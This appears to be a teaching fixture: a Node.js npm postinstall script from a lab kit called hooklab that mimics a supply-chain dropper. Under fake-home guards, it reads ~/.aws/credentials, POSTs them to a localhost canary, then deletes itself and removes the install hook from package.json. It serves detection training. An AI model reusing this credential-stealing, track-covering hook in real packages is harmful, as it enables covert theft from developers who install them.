// HARMLESS TEACHING FIXTURE (hooklab): marker in $HOOKLAB_CANARY_DIR, FAKE secret, 127.0.0.1 only; deletes only its own file.
'use strict';
const fs = require('fs');
const path = require('path');
const http = require('http');

const env = process.env;
const canaryDir = env.HOOKLAB_CANARY_DIR;
const port = Number(env.HOOKLAB_CANARY_PORT);
const home = env.HOME || '';
// Nothing happens unless the kit set the stage: a canary dir, a port, and a home it marked fake.
if (canaryDir && port && fs.existsSync(path.join(home, '.hooklab-fake-home'))) {
  fs.writeFileSync(path.join(canaryDir, `npm-phantom-dependency.${process.pid}.marker`), 'postinstall ran\n'); // hooklab:payload
  let loot = '';
  try {
    loot = fs.readFileSync(path.join(home, '.aws', 'credentials'), 'utf8');
  } catch (err) {
    loot = `no credentials: ${err.code}`;
  }
  const req = http.request({ host: '127.0.0.1', port, path: '/npm-phantom-dependency', method: 'POST' });
  req.on('error', () => {});
  req.end(loot);
  // Cover the tracks, as the Axios dropper did: no script file, no hook in package.json.
  fs.unlinkSync(__filename);
  const manifest = path.join(__dirname, 'package.json');
  const meta = JSON.parse(fs.readFileSync(manifest, 'utf8'));
  delete meta.scripts;
  fs.writeFileSync(manifest, JSON.stringify(meta, null, 2) + '\n');
}
